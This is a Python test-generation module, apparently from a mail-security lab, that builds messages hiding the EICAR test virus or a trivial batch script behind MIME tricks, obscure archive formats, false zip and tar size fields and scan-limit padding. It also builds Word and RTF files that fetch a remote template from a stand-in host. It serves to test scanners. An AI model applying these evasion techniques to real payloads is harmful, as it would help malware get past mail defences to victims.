"""The same forbidden content in every other form that MIME, mail programs and archives allow (RFC 2045 to 2047, 2231).

A scanner must read a message as the programs do that open it. Some mail program or archiver opens each of these as a program,
and all must be refused. The ways are rows of ``tricks.toml``.
"""

import base64
import binascii
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import tomllib
import zipfile
import zlib
from collections.abc import Callable, Sequence
from email.utils import formatdate, make_msgid
from functools import cache
from pathlib import Path
from typing import Any

from outpost_lab.attack import content

SCRIPT = b"@echo off\r\n"
CUT = 'multipart/mixed; boundary="cut"'


@cache
def _rows(table: str) -> dict[str, Any]:
    tables = tomllib.loads(Path(__file__).with_suffix(".toml").read_text(encoding="utf-8"))
    return dict(tables[table])


def _encoded(data: bytes) -> str:
    return base64.encodebytes(data).decode().replace("\n", "\r\n")


def _written(types: Sequence[str], body: str) -> bytes:
    kind = "\r\n".join(f"Content-Type: {each}" for each in types)
    return (
        f"From: x@attacker.hostile.test\r\nSubject: papers\r\nDate: {formatdate()}\r\n"
        f"Message-ID: {make_msgid(domain='attacker.hostile.test')}\r\nMIME-Version: 1.0\r\n{kind}\r\n\r\n{body}"
    ).encode()


def _mixed(part: str, types: Sequence[str] = (CUT,), boundary: str = "cut", end: str | None = None) -> bytes:
    closing = f"--{boundary}--\r\n" if end is None else end
    text = f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n"
    return _written(types, f"{text}--{boundary}\r\n{part}\r\n{closing}")


def _part(disposition: str, data: bytes, kind: str = "application/octet-stream") -> str:
    return _encoded_part(disposition, "base64", _encoded(data), kind)


def _encoded_part(disposition: str, encoding: str, body: str, kind: str = "application/octet-stream") -> str:
    head = f"Content-Type: {kind}\r\nContent-Disposition: {disposition}\r\n"
    return f"{head}Content-Transfer-Encoding: {encoding}\r\n\r\n{body}"


def _attached(name: str, data: bytes) -> bytes:
    return _mixed(_part(f'attachment; filename="{name}"', data))


def _shown(
    disposition: str,
    kind: str = "application/octet-stream",
    text: str = SCRIPT.decode(),
    charset: str = "utf-8",
) -> bytes:
    return _mixed(_part(disposition, text.encode(charset), kind))


def names() -> dict[str, bytes]:
    """A script whose name hides its type."""
    return {name: _shown(*row) for name, row in _rows("names").items()}


def pages() -> dict[str, bytes]:
    """Pages that act when they are opened, shown in the message instead of attached (RFC 2183, section 2.1)."""
    return {name: _shown(*row) for name, row in _rows("pages").items()}


def _uuencoded(name: str, data: bytes) -> str:
    lines = (binascii.b2a_uu(data[at : at + 45]).decode().rstrip("\n") for at in range(0, len(data), 45))
    return f"begin 644 {name}\r\n" + "\r\n".join(lines) + "\r\n`\r\nend\r\n"


def structures() -> dict[str, bytes]:
    """The test virus, or a script, in a message with an unusual structure."""
    virus = content.eicar()
    part = _part('attachment; filename="a.bin"', virus)
    text = base64.b64encode(virus).decode()
    inner, script = _mixed(part, ['multipart/mixed; boundary="in"'], "in"), _uuencoded("a.bat", SCRIPT)
    hexadecimal = "".join(f"={octet:02X}" for octet in virus)
    quoted = "=\r\n".join(hexadecimal[at : at + 72] for at in range(0, len(hexadecimal), 72))
    words = {
        "part": part, "text": text, "lines": _encoded(virus).rstrip(), "inner": inner.decode(), "inner64": _encoded(inner),
        "script": script, "quoted": quoted,
        "inner_file": _part('attachment; filename="x.eml"', inner), "uuencoded": _uuencoded("a.bin", virus),
        "below64": _encoded(f"See below.\r\n{_uuencoded('a.bin', virus)}".encode()), "signed64": _encoded(content.signed(part.encode())),
        "junk": "!".join(text), "letters": "\r\n".join(text), "blanks": quoted.replace("=\r\n", "= \t\r\n"),
        "halves": "".join(f"{base64.b64encode(half).decode()}\r\n" for half in (virus[:20], virus[20:])),
        "whole64": _encoded(f"--cut\r\n{part}\r\n--cut--\r\n".encode()), "script16": _encoded(script.encode("utf-16-le")),
        "wide": script.replace("begin 644 ", "begin\t644  "), "five": script.replace("begin 644 ", "begin 00644 "),
        "program64": _encoded(content.program()), "picture": _part('inline; filename="a.jpg"', content.program(), "image/jpeg"),
    }  # fmt: skip
    return {name: _structure(words, **row) for name, row in _rows("structures").items()}


def _structure(
    words: dict[str, str], *, part: str = "{part}", types: Sequence[str] = (CUT,), boundary: str = "cut", end: str | None = None,
    encoding: str = "", body: str = "", whole: str = "", without: str = "",
) -> bytes:  # fmt: skip
    if whole:
        return _written(types, whole.format(**words))
    if encoding:
        part = _encoded_part('attachment; filename="a.bin"', encoding, f"{body}\r\n")
    return _mixed(part.format(**words), types, boundary, end).replace(without.encode(), b"")


PACKERS: dict[str, Callable[[str, bytes], bytes]] = {
    "zip": lambda name, data: content.zipped({name: data}),
    "lzip": lambda name, data: content.zipped({name: data}, zipfile.ZIP_LZMA),
    "renamed": lambda name, data: content.renamed_zip("a.txt", name, data),
    "rar": content.rar,
    "gz": lambda _, data: gzip.compress(data),
    "bz2": lambda _, data: bz2.compress(data),
    "xz": lambda _, data: lzma.compress(data),
    "lzma": lambda _, data: lzma.compress(data, format=lzma.FORMAT_ALONE),
    "tar": lambda name, data: gzip.decompress(content.tar_gz({name: data})),
    "tgz": lambda name, data: content.tar_gz({name: data}),
    "tnef": content.tnef,
    "tnef_long": lambda name, data: content.tnef(name, data, long=True),
    "tnef_message": lambda name, data: content.tnef_property(
        0x0D, content.IID_IMESSAGE + content.tnef(name, data)
    ),
    "tnef_property": lambda _, data: content.tnef_property(0x0102, data),
    "pdf": lambda _, data: content.pdf_with(data),
    "message": _attached,
    "picture": lambda _, data: b"GIF89a" + bytes(100) + data,
    "marked": lambda _, data: b"%PDF-1.4\n" + data,
    "sectors": lambda _, data: data + bytes(-len(data) % 512),
}
"""Functions that make a file and its name from another one."""


def _packed(recipe: str, things: dict[str, bytes]) -> tuple[str, bytes]:
    """Name and data of a file: ``WHAT NAME | PACKER NAME | …``."""
    first, *steps = (step.partition(" ")[::2] for step in recipe.split(" | "))
    what, name = first
    octets, _, zeros = what.partition("+")
    data = bytes.fromhex(octets) + bytes(int(zeros)) if zeros else things[what]
    for packer, called in steps:
        data, name = PACKERS[packer](name, data), called
    return name, data


def _long_name(written: int, records: dict[str, str] | None = None, others: int = 0) -> bytes:
    """A tar archive whose header has the beginning of a script's name only (tar(5)), behind these records and other members."""
    archive, member = io.BytesIO(), tarfile.TarInfo("\u00e9" * 120 + "/run.bat")
    member.size, member.pax_headers = len(SCRIPT), records or {}
    with tarfile.open(fileobj=archive, mode="w", format=written) as file:
        for _ in range(others):
            other = tarfile.TarInfo("a.txt")
            other.pax_headers = {"comment": "." * 3900}
            file.addfile(other)
        file.addfile(member, io.BytesIO(SCRIPT))
    return archive.getvalue()


def _named(name: str) -> bytes:
    """A gzip file whose content has another name than the attachment (RFC 1952, FNAME)."""
    packed = io.BytesIO()
    with gzip.GzipFile(name, "wb", fileobj=packed) as file:
        file.write(SCRIPT)
    return packed.getvalue()


def _shrunk(codes: bytes, data: bytes) -> bytes:
    """A zip archive of one member by method 1 (APPNOTE.TXT, section 4.4.5)."""
    archive = bytearray(content.zipped({"a.txt": codes}, zipfile.ZIP_STORED))
    for at in (0, archive.rfind(b"PK\1\2") + 2):
        struct.pack_into("<H", archive, at + 8, 1)
        struct.pack_into("<I", archive, at + 14, zlib.crc32(data))
        struct.pack_into("<I", archive, at + 22, len(data))
    return bytes(archive)


def wrappings() -> dict[str, bytes]:
    """A program, script, shortcut, macro or the test virus in archives with false declarations, or that few programs can open."""
    archive, harmless = content.zipped({"run.bat": SCRIPT}), content.zipped({"a.txt": b"x"})
    central = archive.find(b"PK\1\2")
    before, behind = archive[:central], archive[central:]
    note, tarred = (gzip.decompress(content.tar_gz({name: b"x"})) for name in ("a.txt", "run.bat"))
    note = note[:1024]
    # compress(1) and the zip method "shrunk": codes of nine bits each
    codes = sum(octet << 9 * at for at, octet in enumerate(content.eicar())).to_bytes(77, "little")
    things = {
        "virus": content.eicar(), "script": SCRIPT, "program": content.program(), "shortcut": content.shortcut(), "x": b"x",
        "disk_image": content.disk_image(), "macros": content.macro_document(), "locked_document": content.locked_document(),
        "locked": content.encrypted_zip("a.txt", b"x" * 40), "macros_elsewhere": content.zipped(content.macros_elsewhere()),
        "behind_junk": b"junk" * 50 + archive, "before_junk": archive + b"junk" * 50, "volume": b"PK00" + archive,
        "harmless_behind": before + behind.replace(b".bat", b".txt"), "harmless_before": before.replace(b".bat", b".txt") + behind,
        "then_harmless": archive + harmless, "harmless_first": harmless + archive, "no_directory": before,
        "half_a_directory": harmless[:-30], "message": _attached("run.bat", SCRIPT), "outlook": content.outlook("run.bat"),
        "outlook_8": content.outlook("run.bat", "latin-1"), "two_streams": bz2.compress(b"x") + bz2.compress(content.eicar()),
        "named": _named("run.bat"), "named_oddly": _named("run.bat.. "), "long_name": _long_name(tarfile.GNU_FORMAT),
        "pax": _long_name(tarfile.PAX_FORMAT), "pax_lines": _long_name(tarfile.PAX_FORMAT, {"comment": "a\nb\0c"}),
        "pax_records": _long_name(tarfile.PAX_FORMAT, {f"{at:x}": "" for at in range(5000)}),
        "pax_dots": _long_name(tarfile.PAX_FORMAT, others=90), "pax_unmarked": _signed(note, 257, bytes(8)) + _long_name(tarfile.PAX_FORMAT),
        "unmarked_second": note + _signed(tarred, 257, bytes(8)), "kind": note + _signed(tarred, 156, b"N"),
        "long_name_unsigned": _signed(_long_name(tarfile.GNU_FORMAT), 0, b"x".ljust(13, b"\0")), **content.macros_elsewhere(),
        "compressed_message": content.compressed(_part('attachment; filename="a.bin"', content.eicar()).encode()),
        "binhex": b"(This file must be converted with BinHex 4.0)\r\n\r\n:",
        "calendar": content.calendar(content.eicar()), "calendar_folded": content.calendar(content.eicar(), fold=1),
        "compressed": b"\x1f\x9d\x90" + codes, "shrunk": _shrunk(codes, content.eicar()),
        "package": content.package("run.bat", SCRIPT), "ar": b"!<arch>\nrun.bat/        %-12d%-6d%-6d%-8o%-10d`\n" % (0, 0, 0, 0o644, 1) + b"x\n",
        "cpio": b"070707" + b"%06o" * 7 % (0, 1, 0o100644, 0, 0, 1, 0) + b"%011o%06o%011o" % (0, 2, 1) + b"a\0x",
    }  # fmt: skip
    return {what: _attached(*_packed(recipe, things)) for what, recipe in _rows("wrappings").items()}


PADDING = 70 * 2**20
"""More than a scanner reads of one file if its limit is the largest message."""


def _padded() -> bytes:
    return bytes(PADDING) + content.eicar()


def _lying(archive: bytes, size: int) -> bytes:
    """A zip archive of one member that declares another size, in both places (APPNOTE.TXT, sections 4.3.7 and 4.3.12)."""
    made = bytearray(archive)
    struct.pack_into("<I", made, 22, size)
    struct.pack_into("<I", made, archive.rfind(b"PK\1\2") + 24, size)
    return bytes(made)


PADDED: dict[str, Callable[[], bytes]] = {
    "a.zip": lambda: content.zipped({"a.dat": _padded()}),
    "lies.zip": lambda: _lying(content.zipped({"a.dat": _padded()}), 80_000),
    "a.tar.gz": lambda: content.tar_gz({"a.zip": content.zipped({"a.dat": _padded()})}),
    "a.gz": lambda: gzip.compress(_padded(), 1),
    "a.pdf": lambda: content.pdf_with(_padded()),
    "a.docx": lambda: content.zipped({"word/document.xml": b"<x/>", "word/embeddings/a.dat": _padded()}),
    "many.zip": lambda: content.zipped(
        {f"{at}.dat": bytes(PADDING) for at in range(9)} | {"a.dat": _padded()}
    ),
}
"""The test virus behind many zeros, by the name of a file; made on demand, because each takes a second."""


def _before(
    archive: bytes, packed: int, unpacked: int | None = None, *, hidden: bool = False, later: bool = False
) -> bytes:
    """A zip archive that declares other sizes before its first member than in its directory, which users' programs read."""
    made = bytearray(archive)
    made[6] |= 8 * later
    made[7] |= 0x20 * hidden
    struct.pack_into("<I", made, 18, packed)
    if unpacked is not None:
        struct.pack_into("<I", made, 22, unpacked)
    return bytes(made)


def _odd_tar(data: bytes, pax: bool, **records: str) -> bytes:
    """A tar archive with one member, whose size is in an unusual place: in a separate record, or in base 256."""
    member = tarfile.TarInfo("a.zip")
    member.pax_headers = records | {"size": str(len(data))} if pax else {}
    made = member.tobuf(tarfile.PAX_FORMAT)
    if not pax:
        made = _signed(made, 124, b"\x80" + len(data).to_bytes(11, "big"))
    return made + data + bytes(-len(data) % 512 + 1024)


def _signed(archive: bytes, at: int, octets: bytes) -> bytes:
    """A tar archive with other octets in its first header, and the right checksum."""
    made = bytearray(archive)
    made[at : at + len(octets)], made[148:156] = octets, b" " * 8
    made[148:156] = b"%06o\0 " % sum(made[:512])
    return bytes(made)


def lying() -> dict[str, dict[str, bytes]]:
    """The test virus in archives with a false size: ClamAV reads by one declaration, programs by the other."""
    archive = content.zipped({"a.txt": content.eicar() * 3})
    half, sizes_behind = _before(archive, 20), _before(archive, 0, 0, later=True)
    things = {
        "half": half, "more": _before(archive, len(archive) + 1000), "volume": b"PK00" + half, "sizes_behind": sizes_behind,
        "nothing": _before(archive, 0), "no_sizes": _before(archive, 0, 0),
        "no_sizes_stored": _before(content.zipped({"a.zip": archive}, zipfile.ZIP_STORED), 0, 0),
        "zip64": _before(archive, 2**32 - 1, 2**32 - 1), "zip64_packed": _before(archive, 2**32 - 1),
        "zip64_behind": _before(archive, 2**32 - 1, 2**32 - 1, later=True), "sizes_behind_xx": sizes_behind + b"xx",
        "hidden": _before(archive, len(archive) - 110, hidden=True),
        "tar_record": _odd_tar(archive, pax=True), "tar_lines": _odd_tar(archive, pax=True, comment="a\nb"),
        "tar_base_256": _odd_tar(archive, pax=False),
        "tar_8_gib": _signed(PACKERS["tar"]("a.zip", archive), 124, b"77777777777\0"),
    }  # fmt: skip
    return {what: dict([_packed(recipe, things)]) for what, recipe in _rows("lying").items()}


def _related(kind: str, target: str) -> bytes:
    """A Word document with a relationship to something elsewhere (ECMA-376, part 2, section 6.5)."""
    types = "http://schemas.openxmlformats.org"
    relation = (
        f'<Relationships xmlns="{types}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{types}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return content.zipped({"word/document.xml": b"<x/>", "word/_rels/settings.xml.rels": relation.encode()})


def documents() -> dict[str, bytes]:
    """Documents that fetch a program or contain one as an object."""
    return {
        "template.docx": _related("attachedTemplate", "http://x.invalid/a.dotm"),
        "share.docx": _related("attachedTemplate", "\\\\x.invalid\\a.dotm"),
        "object.docx": _related("oleObject", "mhtml:http://x.invalid/a!x"),
        "object.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
        "template.rtf": b"{\\rtf1{\\*\\template http://x.invalid/a}}",
    }
